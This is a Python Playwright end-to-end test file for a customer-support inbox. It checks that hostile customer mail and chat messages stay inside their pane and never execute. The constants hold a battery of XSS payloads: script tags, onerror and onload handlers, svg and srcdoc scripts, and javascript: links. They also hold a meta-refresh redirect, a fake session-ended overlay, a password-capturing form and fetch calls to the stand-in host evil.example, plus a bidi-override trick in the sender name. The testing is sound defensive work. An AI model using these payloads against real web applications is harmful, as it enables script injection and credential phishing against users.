"""What customers can send to break the page: it stays whole, and nothing of theirs runs."""

from email.message import EmailMessage
from email.utils import formataddr

import pytest
from playwright.async_api import Page, Request, expect

from tests.e2e.conftest import Sit
from tests.e2e.customers import Line
from tests.e2e.desk import Desk
from tests.e2e.stage import Stage

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session")]

NAME = "محمد عبد الرحمن بن عبد العزيز الهاشمي 🏔️👩‍👩‍👧‍👦🇳🇴 \u202eevil\u202c" + " الطويل" * 20
SOLID = "W" * 10_000
RUN = "top.ran = 1; document.title = 'taken'; fetch('https://evil.example/ran')"
HTML = f"""<html><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"><script>{RUN}</script>
<style>@import url(https://evil.example/b.css); body, p {{ width: 9000px }}</style></head>
<body onload="{RUN}"><p>The words of the mail.</p>
<div style="position:fixed;inset:0;z-index:2147483647;background:red">Your session has ended</div>
<img src="x" onerror="{RUN}"><img src="cid:nothing@here"><img src="https://evil.example/p.gif">
<svg onload="{RUN}"><script>{RUN}</script></svg><math><mtext></p><img src=x onerror="{RUN}">
<iframe srcdoc="<script>{RUN}</script>"></iframe><object data="https://evil.example/o"></object>
<form action="https://evil.example/f"><input name="password" autofocus onfocus="{RUN}"></form>
<a href="javascript:{RUN}" target="_top">Press here</a>
<a href="https://evil.example/top" target="_top">Or here</a>
<table width="9000"><tr><td>{"wide" * 2_000}</td></tr></table>
</body></html><!-- --></div></main><script>{RUN}</script>"""
BEYOND = """() => {
  const pane = document.querySelector('main.thread').getBoundingClientRect();
  const out = one => {
    const box = one.getBoundingClientRect();
    return box.width > 1 && (box.left < pane.left - 1 || box.right > pane.right + 1);
  };
  const wide = [...document.querySelectorAll('main.thread *, .panel, .list .rows')]
    .filter(one => one.checkVisibility() && one.closest('main.thread') && out(one));
  const tall = [...document.querySelectorAll('.mail > .head, .thread .top, .list [role=row]')]
    .filter(one => one.getBoundingClientRect().height > 120);
  const sideways = ['html', '.flow', '.list .rows', '.panel-scroll'].filter(name =>
    [...document.querySelectorAll(name)].some(one => one.scrollWidth > one.clientWidth + 1));
  return [...wide, ...tall].map(one => one.outerHTML.slice(0, 160)).concat(sideways);
}"""


def _letter(line: Line) -> EmailMessage:
    """A mail to a thousand, whose HTML tries every door."""
    letter = EmailMessage()
    letter["From"] = formataddr((NAME, f"m-{line.id}@posta.example"))
    crowd = [f"someone.{n}@a-rather-long-name-of-a-company.example" for n in range(1_000)]
    letter["To"] = ", ".join([line.address, *crowd])
    letter["Subject"] = "🧨 <img src=x onerror=alert(1)> مرحبا " + "S" * 300
    letter["Message-ID"] = f"<hostile.{line.id}@posta.example>"
    letter.set_content("The words of the mail.\n" + SOLID[:900])
    letter.add_alternative(HTML, subtype="html")
    return letter


async def _nothing_ran(page: Page) -> None:
    for frame in page.frames:
        if not frame.is_detached():
            assert await frame.evaluate("() => globalThis.ran ?? null") is None
    assert await page.title() != "taken"
    assert "/app/" in page.url


def _watch(desk: Desk, away: list[str]) -> None:
    def note(request: Request) -> None:
        if "evil.example" in request.url:
            away.append(request.url)

    desk.context.on("request", note)
    desk.page.on("dialog", lambda dialog: away.append(dialog.message))


@pytest.mark.parametrize("width", [1440, 390])
async def test_a_mail_that_wants_out_stays_in_its_card(stage: Stage, sit: Sit, width: int) -> None:
    """As text and as its sender laid it out: within the pane, no script, no call home."""
    line = await stage.inbox("email")
    letter = _letter(line)
    await stage.customers.post(letter, f"m-{line.id}@posta.example", line.address)
    ticket = (await stage.ticket(line))["id"]
    desk = await sit(viewport={"width": width, "height": 900})
    away: list[str] = []
    _watch(desk, away)
    await desk.go(f"/inbox/{line.id}/{ticket}")
    await expect(desk.thread).to_contain_text("The words of the mail.")
    assert await desk.page.evaluate(BEYOND) == []
    await desk.button("Original layout").click()
    frame = desk.page.frame_locator("iframe.html-mail")
    await expect(frame.get_by_text("The words of the mail.")).to_be_attached()
    assert await desk.page.evaluate(BEYOND) == []
    await _nothing_ran(desk.page)
    box = await desk.composer.bounding_box()
    assert box and await desk.page.evaluate(
        "([x, y]) => document.elementFromPoint(x, y).closest('form.composer') !== null",
        [box["x"] + box["width"] / 2, box["y"] + box["height"] / 2],
    )
    await desk.page.wait_for_load_state("networkidle")
    desk.faults = [one for one in desk.faults if "evil.example" not in one]
    assert away == []


@pytest.mark.parametrize("width", [1440, 390])
async def test_names_and_words_of_any_length_and_direction_fit(
    stage: Stage, sit: Sit, width: int
) -> None:
    """Arabic, emoji, markup as a name, ten thousand letters without a space."""
    line = await stage.inbox("api")
    sender = {"id": f"{line.id}-1", "name": NAME}
    await stage.customers.api(line, sender, SOLID)
    await stage.customers.api(line, sender, f"<script>{RUN}</script><img src=x onerror='{RUN}'>")
    await stage.customers.api(line, sender, "مرحبا، أين طلبي؟ 🏔️ https://shop.example/" + SOLID)
    ticket = (await stage.ticket(line))["id"]
    desk = await sit(viewport={"width": width, "height": 900})
    away: list[str] = []
    _watch(desk, away)
    await desk.go(f"/inbox/{line.id}")
    await expect(desk.list.get_by_role("row")).to_have_count(1)
    assert not await desk.page.evaluate("document.documentElement.scrollWidth > innerWidth")
    await desk.go(f"/inbox/{line.id}/{ticket}")
    await expect(desk.thread).to_contain_text("أين طلبي؟")
    await expect(desk.thread).to_contain_text("<script>")
    assert await desk.page.evaluate(BEYOND) == []
    await _nothing_ran(desk.page)
    assert away == []
